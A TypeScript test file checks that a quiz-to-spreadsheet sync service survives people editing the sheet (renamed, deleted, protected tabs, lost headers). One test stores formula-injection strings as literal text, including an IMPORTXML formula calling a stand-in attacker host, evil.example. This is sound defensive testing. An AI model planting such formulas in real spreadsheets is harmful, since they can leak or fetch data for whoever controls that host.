import { describe, expect, it } from 'vitest';
import { submission } from './facts.ts';
import { type Rig, sendAll, untilSettled } from './rig.ts';
import { nextRound, ordinaryRound } from './rounds.ts';
import { differences } from './watched-sheet.ts';
import { rigsForTests } from './with-rig.ts';

const { settledRig } = rigsForTests();

const PROFILES = 'UserProfiles';
const RESPONSES = 'QuizResponses';
const PATIENT = { timeout: 45_000 };

interface Status {
  readonly state: string;
  readonly tabs: readonly {
    readonly tab: string;
    readonly rows: number;
    readonly problem?: { readonly message: string; readonly remedy: string };
  }[];
}

/** Where everything that was sent is, and is right. */
async function expectExactAfterAnotherRound(rig: Rig): Promise<void> {
  await sendAll(rig, ordinaryRound(nextRound(rig)));
  expect(rig.owed).toEqual([]);
  expect(await untilSettled(rig)).toBe('in sync');
  expect(differences(rig)).toEqual([]);
}

async function statusOf({ service }: Rig): Promise<Status> {
  return (await (await fetch(`${service.url}/api/sync/status`)).json()) as Status;
}

/** What stops the tab of profiles, once something does and nothing else is on its way. */
async function untilSetAside(rig: Rig): Promise<{ message: string; remedy: string }> {
  const problem = async () => {
    const { state, tabs } = await statusOf(rig);
    return state === 'blocked' ? tabs.find(({ tab }) => tab === 'profiles')?.problem : undefined;
  };
  await expect.poll(problem, PATIENT).toBeDefined();
  return (await problem()) ?? { message: '', remedy: '' };
}

function keysIn({ emulator, spreadsheetId }: Rig, tab: string): unknown[] {
  const [headers = [], ...rows] = emulator.spreadsheet(spreadsheetId).values(tab);
  const column = headers.indexOf('quiz_sync_key');
  return rows.map((row) => row[column]);
}

describe('the service, while people work in the spreadsheet', () => {
  it('goes on with tabs that are renamed, hidden and moved (fault 18)', async () => {
    const rig = await settledRig();
    const people = rig.emulator.people(rig.spreadsheetId);
    people.renameTab(PROFILES, 'Pupils').hideTab('CourseProgress').moveTab(RESPONSES, 5);
    await expectExactAfterAnotherRound(rig);
    const { tabs } = rig.emulator.spreadsheet(rig.spreadsheetId);
    expect(tabs).toContain('Pupils');
    expect(tabs).not.toContain(PROFILES);
  });

  it('makes a tab again that was deleted, and fills it (fault 19)', async () => {
    const rig = await settledRig();
    rig.emulator.people(rig.spreadsheetId).deleteTab(PROFILES);
    rig.people.notes.delete(PROFILES);
    await expectExactAfterAnotherRound(rig);
  });

  it('follows columns and rows that are moved, inserted and sorted (faults 22, 23, 24)', async () => {
    const rig = await settledRig();
    const people = rig.emulator.people(rig.spreadsheetId);
    people.insertColumn(PROFILES, 'C').moveColumn(RESPONSES, 'A', 'E').insertRows(RESPONSES, 2, 2);
    people.sort(PROFILES, { column: 'A', descending: true });
    await expectExactAfterAnotherRound(rig);
  });

  it('sets a protected tab aside, with its range named, and goes on with the others (fault 20)', async () => {
    const rig = await settledRig();
    rig.emulator.people(rig.spreadsheetId).protect(PROFILES, { range: 'A1:F50' });
    const round = nextRound(rig);
    await sendAll(rig, ordinaryRound(round));
    const { remedy } = await untilSetAside(rig);
    expect(remedy).toContain("as an editor of 'UserProfiles'!A1:F50, or remove the protection");
    await expect.poll(() => keysIn(rig, RESPONSES), PATIENT).toContain(`first-${round}:0`);
    expect(keysIn(rig, PROFILES)).not.toContain(`newcomer-${round}`);
  });

  it('stops a tab that lost a header, says which and what to do, and shifts nothing (fault 21)', async () => {
    const rig = await settledRig();
    const people = rig.emulator.people(rig.spreadsheetId);
    const view = rig.emulator.spreadsheet(rig.spreadsheetId);
    const before = view.values(PROFILES);
    people.type(PROFILES, 'A1', 'given name');
    const round = nextRound(rig);
    await sendAll(rig, ordinaryRound(round));
    const { message, remedy } = await untilSetAside(rig);
    expect(message).toMatch(/has lost the header "first_name"; its first row now says "given name"/);
    expect(remedy).toContain('Put "first_name" back');
    expect(rig.emulator.spreadsheet(rig.spreadsheetId).values(PROFILES).slice(1)).toEqual(before.slice(1));
    await expect.poll(() => keysIn(rig, RESPONSES), PATIENT).toContain(`first-${round}:0`);
    people.type(PROFILES, 'A1', 'first_name');
    await expectExactAfterAnotherRound(rig);
  });
});

describe('text of learners that a spreadsheet might take for something else', () => {
  it('is the literal text in the sheet, never a formula, a number or a date (fault 44)', async () => {
    const rig = await settledRig();
    const texts = [
      '=IMPORTXML("http://evil.example","//x")',
      '=HYPERLINK("x")',
      '+1',
      '-1',
      '@x',
      '1e3',
      '=1+1',
    ];
    const responses = texts.map((text) => ({
      quiz_id: text,
      topic: text,
      selected_option: 'A' as const,
      correct: true,
      explanation: text,
    }));
    const submitted_at = '2026-01-05T06:00:00.000Z';
    await sendAll(rig, [
      submission({ submission_id: 'odd', user_id: '=1+1', quiz_type: 'micro', submitted_at, responses }),
    ]);
    expect(rig.owed).toEqual([]);
    expect(await untilSettled(rig)).toBe('in sync');
    expect(differences(rig)).toEqual([]);
    const view = rig.emulator.spreadsheet(rig.spreadsheetId);
    const first = keysIn(rig, RESPONSES).indexOf('odd:0') + 2;
    const [headers = []] = view.values(RESPONSES);
    const column = String.fromCharCode(65 + headers.indexOf('explanation'));
    for (const [index, text] of texts.entries())
      expect(view.cell(RESPONSES, `${column}${first + index}`), text).toMatchObject({ value: text });
  });
});
